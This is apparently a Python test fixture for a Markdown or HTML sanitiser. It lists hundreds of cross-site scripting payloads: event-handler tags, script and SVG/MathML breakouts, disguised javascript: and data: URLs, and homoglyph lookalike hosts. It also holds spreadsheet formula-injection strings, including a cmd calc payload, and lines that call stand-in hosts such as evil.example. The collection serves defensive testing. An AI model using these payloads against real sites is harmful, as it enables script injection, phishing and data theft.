"""Words of people who mean harm: what they would write into a report, a title, a name or a file's name.

Each would do something in a browser if it came out as it went in: run a script, load something, lead somewhere unseen.
"""

from itertools import product
from typing import Final

REMOTE: Final = "https://remote.example"
"""What must never be asked for."""

_HANDLERS: Final = (
    "<img src=x onerror=alert(1)>", "<img src=x:x onerror=alert`1`>", "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>", "<img src=x onerror&#61;alert(1)>", "<IMG SRC=x ONERROR=alert(1)>",
    "<img src='x'onerror='alert(1)'>", '<img src=x onerror="alert(1)"', "<img \x0csrc=x \x0conerror=alert(1)>",
    "<img src=x onerror=\u2028alert(1)>", "<image src=x onerror=alert(1)>", "<img srcset=x onerror=alert(1)>",
    "<body onload=alert(1)>", "<body onpageshow=alert(1)>", "<html onmouseover=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>", "<button autofocus onfocus=alert(1)>",
    "<a href=# tabindex=1 autofocus onfocus=alert(1)>x</a>", "<div contenteditable autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>", "<video src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
    "<object data=x onerror=alert(1)>", "<embed src=x onload=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
    "<style onload=alert(1)></style>", "<link rel=stylesheet href=x onerror=alert(1)>",
    "<script src=x onerror=alert(1)></script>", "<iframe onload=alert(1)></iframe>",
    "<frameset onload=alert(1)>", "<dialog open onclose=alert(1)>x</dialog>",
    "<p style='animation:x 1s' onanimationstart=alert(1)>x</p>", "<x onclick=alert(1) id=y>click</x>",
    "<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>y</button>",
    "<meter onmouseenter=alert(1)>x</meter>", "<keygen autofocus onfocus=alert(1)>",
)  # fmt: skip
_SCRIPTS: Final = (
    "<script>alert(1)</script>", "<script >alert(1)</script >", "<script\t>alert(1)</script\n>",
    "<script/x>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1);//<</script>",
    "<script>alert(1)//", "<script type=module>alert(1)</script>", "<script type='text/javascript'>alert(1)</script>",
    "<script>/*</script>*/alert(1)</script>", '"><script>alert(1)</script>', "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "</script><script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}", "{% load x %}{{ request }}", "${alert(1)}", "<%= alert(1) %>",
    f"<script src={REMOTE}/x.js></script>", f"<script src=//{REMOTE[8:]}/x.js></script>",
    f"<link rel=import href={REMOTE}/x>", f"<link rel=stylesheet href={REMOTE}/x.css>",
    f"<link rel=prefetch href={REMOTE}/x>", f"<style>@import '{REMOTE}/x.css';</style>",
    f"<style>*{{background:url({REMOTE}/x)}}</style>", f"<p style='background:url({REMOTE}/x)'>x</p>",
    f"<iframe src={REMOTE}></iframe>", "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>",
    f"<meta http-equiv=refresh content='0;url={REMOTE}'>", "<meta http-equiv=refresh content='0;javascript:alert(1)'>",
    f"<base href={REMOTE}/>", f"<form action={REMOTE}><input type=submit></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<input form=leaving name=to value=https://evil.example><button form=leaving formaction=//evil.example>x</button>",
    "<button form=leaving name=to value='javascript:alert(1)'>x</button>",
    "<div hx-get=/account/logout/ hx-trigger=load>x</div>", "<div data-hx-on:load='alert(1)'>x</div>",
    f"<template><img src={REMOTE}/x></template>", "<portal src=javascript:alert(1)></portal>",
    f"<img src={REMOTE}/x.png>", f"<picture><source srcset={REMOTE}/x><img></picture>",
    f"<video poster={REMOTE}/x></video>", f"<a ping={REMOTE}/x href=#>x</a>",
)  # fmt: skip
_FOREIGN: Final = (
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
    f"<svg><image href={REMOTE}/x /></svg>", f"<svg><use href={REMOTE}/x#y /></svg>",
    f"<svg><feImage href={REMOTE}/x /></svg>", "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)>", "<svg><discard onbegin=alert(1)>",
    "<math><mtext><script>alert(1)</script></mtext></math>", "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><mi><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'></table>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<math></p><style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>", "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<table><td><svg><desc><td></desc><img src=x onerror=alert(1)></svg></table>",
    "<select><template shadowrootmode=open><img src=x onerror=alert(1)></template></select>",
    "<!--><img src=x onerror=alert(1)>-->", "<!--!><img src=x onerror=alert(1)>",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<!---><img src=x onerror=alert(1)>", "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml?><img src=x onerror=alert(1)>",
    "<!DOCTYPE html [<!ENTITY x '<img src=x onerror=alert(1)>'>]>&x;", "</ <img src=x onerror=alert(1)>",
    "<a<img src=x onerror=alert(1)>", "<p/<img src=x onerror=alert(1)>>", "<\x00img src=x onerror=alert(1)>",
)  # fmt: skip
_DISGUISED: Final = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)",
    "javascript&#0000058alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "java\tscript:alert(1)",
    "\x01javascript:alert(1)", "\u00a0javascript:alert(1)", "\u200bjavascript:alert(1)", "\ufeffjavascript:alert(1)",
    "javascript\u200b:alert(1)", "java\u00adscript:alert(1)", "\u202ejavascript:alert(1)", "j\u0430vascript:alert(1)",
    "\uff4aavascript:alert(1)", "javascript\uff1aalert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)",
    "%6Aavascript:alert(1)", "javascript%3Aalert(1)", "javascript://%0aalert(1)",
    "javascript://a.example/%0d%0aalert(1)",
    "javascript:%61lert(1)", "jscript:alert(1)", "vbscript:msgbox(1)", "livescript:alert(1)", "mocha:alert(1)",
    "feed:javascript:alert(1)", "jar:javascript:alert(1)", "view-source:javascript:alert(1)", "about:blank",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:,alert(1)",
    "DATA:TEXT/HTML,x", "data\t:text/html,x",
    "file:///etc/passwd", "ms-settings:privacy", "intent://x#Intent;scheme=https;end", "tel:+490000", "sms:1?body=x",
    "ftp://a.example/x", "ws://a.example/x", "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example",
    "/account/logout/",
    "https:evil.example", "https:/evil.example", "https:///evil.example", "http:\\\\evil.example", "https://",
    "https://good.example@evil.example/", "https://good.example:pass@evil.example/", "https://good.example%40evil.example",
    "https://good.example\\@evil.example",
    "https://[::1",
    "https://a.example:99999/", "https://%65vil.example/",
)  # fmt: skip
_HALF_TRUE: Final = (
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "blob:https://a.example/x",
    "filesystem:https://a.example/x",
    "https://ev\u202eil.example",
    "https://a.example\x00.evil.example",
    "https://a b.example/",
    "https://evil\u3002example\uff0f",
)  # fmt: skip
_BREAKING_OUT: Final = (
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", "` onmouseover=`alert(1)", '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>", "&quot; onmouseover=&quot;alert(1)", "&#34; onmouseover=&#34;alert(1)",
    '\\" onmouseover=\\"alert(1)', '" autofocus onfocus="alert(1)', '" style="position:fixed;inset:0" x="',
    '"/><script>alert(1)</script>', "\u201d onmouseover=\u201dalert(1)", "\uff02 onmouseover=\uff02alert(1)",
    '" form="leaving" formaction="https://evil.example', "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;alert(1)", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u02c2script\u02c3alert(1)",
    "\u2039script\u203aalert(1)", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\x1b$B<script>alert(1)",
    "\u2028<script>alert(1)</script>", "\u0000<script>alert(1)</script>", "\ud800<script>alert(1)</script>",
    '=HYPERLINK("https://evil.example","x")', "@SUM(1+1)*cmd|' /C calc'!A0", "\u202egpj.exe", "a\u2066b\u2069c\u202d",
)  # fmt: skip

MARKUP: Final = (*_HANDLERS, *_SCRIPTS, *_FOREIGN, *_BREAKING_OUT)
"""For a text, a title, a name and a file's name alike."""
TARGETS: Final = _DISGUISED
"""Where no link may lead."""
LOOKALIKES: Final = (
    "https://g\u043e\u043egle.example/", "https://\u0430pple.example", "https://paypa\u0131.example",
    "https://\uff47ithub.example", "https://github\uff0ecom/", "https://git\u200bhub.example",
    "https://\u202emoc.elpmaxe", "https://xn--80ak6aa92e.com",
    "https://github.com\u2044login.evil.example", "https://github.com\u2215x.evil.example", "https://\u24d6ithub.example",
)  # fmt: skip
"""Hosts that are not what they look like."""
DECEIVING: Final = _HALF_TRUE
"""What holds an address of the web: a link may lead there, and says so."""
_WAYS_TO_LINK: Final = ("[x]({})", "[x](<{}>)", "<{}>", "[x]: {}\n\n[x]", "![x]({})", "[![x]({})](https://a.example)")
_WAYS_TO_QUOTE: Final = (
    "{}", "> - {}", "**{}**", "`{}`", "```{}\nx\n```", "    {}", "# {}", "|{}|\n|-|\n|{}|", "[{}](https://a.example)",
    "[a](https://a.example '{}')", "[a](https://a.example/{})", "https://a.example/{}", "<https://a.example/{}>",
    "![{}](https://a.example)", "<{}", "\\{}", "1. {}\n\n   {}",
)  # fmt: skip

TEXTS: Final = (
    *(way.replace("{}", each) for way, each in product(_WAYS_TO_QUOTE, MARKUP)),
    *(way.replace("{}", each) for way, each in product(_WAYS_TO_LINK, (*TARGETS, *DECEIVING))),
)
"""For a Markdown text: every attack in every place where Markdown could let it out."""


def lines(*, longest: int) -> list[str]:
    """All of `MARKUP`, as many attacks in one line as fit."""
    found = [""]
    for attack in MARKUP:
        fits = len(found[-1]) + len(attack) < longest
        found[-1:] = [f"{found[-1]} {attack}"] if fits else [found[-1], attack]
    return found
